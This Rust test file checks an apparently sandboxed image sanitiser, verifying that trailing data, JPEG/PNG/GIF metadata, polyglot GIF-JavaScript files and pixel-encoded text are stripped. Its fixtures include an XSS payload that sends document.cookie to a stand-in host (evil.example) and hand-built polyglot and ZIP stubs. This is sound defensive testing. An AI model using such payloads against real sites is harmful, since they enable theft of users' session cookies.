//! Nothing of the input but its pixels comes through.

#![expect(clippy::unwrap_used, reason = "what cannot be set up fails the test")]

#[path = "support/jailed.rs"]
mod jailed;
#[path = "support/outcomes.rs"]
mod outcomes;

use std::io::Cursor;

use image::{DynamicImage, ImageFormat, Rgb, RgbImage};

use crate::outcomes::done;

const SCRIPT: &[u8] = b"<script>fetch('//evil.example/'+document.cookie)</script>";
const ZIP: &[u8] = b"PK\x03\x04\x14\0\0\0\0\0\0\0!\0payload.classPK\x05\x06\0\0\0\0\x01\0\x01\0";

fn gradient() -> RgbImage {
    RgbImage::from_fn(80, 60, |x, y| Rgb([x, y, 40].map(|value| u8::try_from(value * 3).unwrap())))
}

fn encoded(format: ImageFormat) -> Vec<u8> {
    let mut bytes = Vec::new();
    DynamicImage::ImageRgb8(gradient()).write_to(&mut Cursor::new(&mut bytes), format).unwrap();
    bytes
}

/// No eight bytes of the payload, in a row, at any place, zeroes aside.
#[track_caller]
fn assert_gone(output: &[u8], payload: &[u8]) {
    for part in payload.windows(8).filter(|part| !part.windows(4).any(|zeros| zeros == [0; 4])) {
        assert!(!output.windows(8).any(|window| window == part), "{:?} came through", String::from_utf8_lossy(part));
    }
}

/// A PNG chunk. Its checksum is over kind and payload (PNG, section 5.3).
fn chunk(kind: &[u8], payload: &[u8]) -> Vec<u8> {
    let body = [kind, payload].concat();
    let mut crc = !0_u32;
    for &byte in &body {
        crc ^= u32::from(byte);
        for _ in 0..8 {
            crc = if crc & 1 == 1 { (crc >> 1) ^ 0xedb8_8320 } else { crc >> 1 };
        }
    }
    [&u32::try_from(payload.len()).unwrap().to_be_bytes()[..], &body, &(!crc).to_be_bytes()].concat()
}

#[tokio::test]
async fn what_trails_an_image_is_gone() {
    for (kind, format) in [
        ("png", ImageFormat::Png),
        ("jpeg", ImageFormat::Jpeg),
        ("bmp", ImageFormat::Bmp),
        ("gif", ImageFormat::Gif),
        ("webp", ImageFormat::WebP),
    ] {
        let input = [&encoded(format)[..], ZIP, SCRIPT, b"</html>"].concat();
        let (output, _) = done(kind, &input).await;
        assert_gone(&output, ZIP);
        assert_gone(&output, SCRIPT);
    }
}

#[tokio::test]
async fn jpeg_metadata_is_gone() {
    let jpeg = encoded(ImageFormat::Jpeg);
    let segment = |marker: u8, payload: &[u8]| {
        [&[0xff, marker][..], &u16::try_from(payload.len() + 2).unwrap().to_be_bytes(), payload].concat()
    };
    let input = [
        &jpeg[..2],
        &segment(0xe1, &[b"Exif\0\0MM\0*\0\0\0\x08\0\0\0\0\0\0 GPS ", SCRIPT].concat()),
        &segment(0xe1, &[b"http://ns.adobe.com/xap/1.0/\0<x:xmpmeta>", SCRIPT].concat()),
        &segment(0xe2, &[b"ICC_PROFILE\0\x01\x01", SCRIPT].concat()),
        &segment(0xed, &[b"Photoshop 3.0\0", SCRIPT].concat()),
        &segment(0xfe, SCRIPT),
        &jpeg[2..],
        ZIP,
    ]
    .concat();
    let (output, _) = done("jpeg", &input).await;
    assert_gone(&output, SCRIPT);
    assert_gone(&output, ZIP);
    for name in [&b"Exif"[..], b"ns.adobe.com", b"ICC_PROFILE", b"Photoshop"] {
        assert!(!output.windows(name.len()).any(|window| window == name));
    }
}

#[tokio::test]
async fn png_chunks_and_what_trails_are_gone() {
    let png = encoded(ImageFormat::Png);
    let input = [
        &png[..33],
        &chunk(b"tEXt", &[b"Comment\0", SCRIPT].concat()),
        &chunk(b"iTXt", &[b"XML:com.adobe.xmp\0\0\0\0\0", SCRIPT].concat()),
        &chunk(b"eXIf", &[b"MM\0*\0\0\0\x08\0\0\0\0\0\0", SCRIPT].concat()),
        &chunk(b"prVt", SCRIPT),
        &png[33..],
        b"<html><body>",
        SCRIPT,
    ]
    .concat();
    let (output, _) = done("png", &input).await;
    assert_gone(&output, SCRIPT);
    let decoded = image::load(Cursor::new(&output), ImageFormat::Png).unwrap();
    assert_eq!(decoded.into_rgb8(), gradient());
}

#[tokio::test]
async fn a_gif_that_is_also_a_script_is_only_a_gif() {
    // The width is "/*" and the comment that it opens ends in the palette: GIF89a/*…*/=1;alert(…).
    let mut colours = SCRIPT.to_vec();
    colours.resize(64 * 3, b' ');
    let comment = [b"\x21\xfe", &[u8::try_from(SCRIPT.len()).unwrap()][..], SCRIPT, b"\0"].concat();
    let application = [b"\x21\xff\x0bXMP DataXMP", &[u8::try_from(SCRIPT.len()).unwrap()][..], SCRIPT, b"\0"].concat();
    let mut frame = Vec::new();
    let mut encoder = gif::Encoder::new(&mut frame, 0x2a2f, 8, &colours).unwrap();
    let pixels: Vec<u8> = (0..64).collect();
    encoder.write_frame(&gif::Frame { width: 8, height: 8, buffer: pixels.into(), ..Default::default() }).unwrap();
    drop(encoder);
    let head = 13 + colours.len();
    let input = [&frame[..head], &comment, &application, &frame[head..], b"*/=1;", SCRIPT].concat();
    let (output, _) = done("gif", &input).await;
    assert_gone(&output, SCRIPT);
    assert!(!output.windows(4).any(|window| window == b"XMP "));
}

#[tokio::test]
async fn pixels_that_spell_a_script_do_not_spell_it_in_the_output() {
    // One row of pixels whose bytes are the payload, over and over: what filters and Huffman codes see as text.
    let bytes: Vec<u8> = SCRIPT.iter().copied().cycle().take(120 * 80 * 3).collect();
    let image = RgbImage::from_raw(120, 80, bytes).unwrap();
    for (kind, format) in [("bmp", ImageFormat::Bmp), ("png", ImageFormat::Png)] {
        let mut input = Vec::new();
        image.write_to(&mut Cursor::new(&mut input), format).unwrap();
        let (output, _) = done(kind, &input).await;
        assert!(!output.windows(7).any(|window| window == b"<script"), "{kind}");
    }
    // A GIF of 128 colours has eight-bit codes at first: its indices stand in the file as bytes.
    let colours: Vec<u8> = (0..128).flat_map(|index| [index, 255 - index, index / 2]).collect();
    let mut input = Vec::new();
    let mut encoder = gif::Encoder::new(&mut input, u16::try_from(SCRIPT.len()).unwrap(), 1, &colours).unwrap();
    let width = u16::try_from(SCRIPT.len()).unwrap();
    let frame = gif::Frame { width, height: 1, buffer: SCRIPT.to_vec().into(), ..Default::default() };
    encoder.write_frame(&frame).unwrap();
    drop(encoder);
    let (output, _) = done("gif", &input).await;
    assert_gone(&output, SCRIPT);
}

#[tokio::test]
async fn the_same_input_gives_the_same_output() {
    for (kind, format) in
        [("png", ImageFormat::Png), ("jpeg", ImageFormat::Jpeg), ("gif", ImageFormat::Gif), ("webp", ImageFormat::WebP)]
    {
        let input = encoded(format);
        assert_eq!(done(kind, &input).await.0, done(kind, &input).await.0, "{kind}");
    }
}
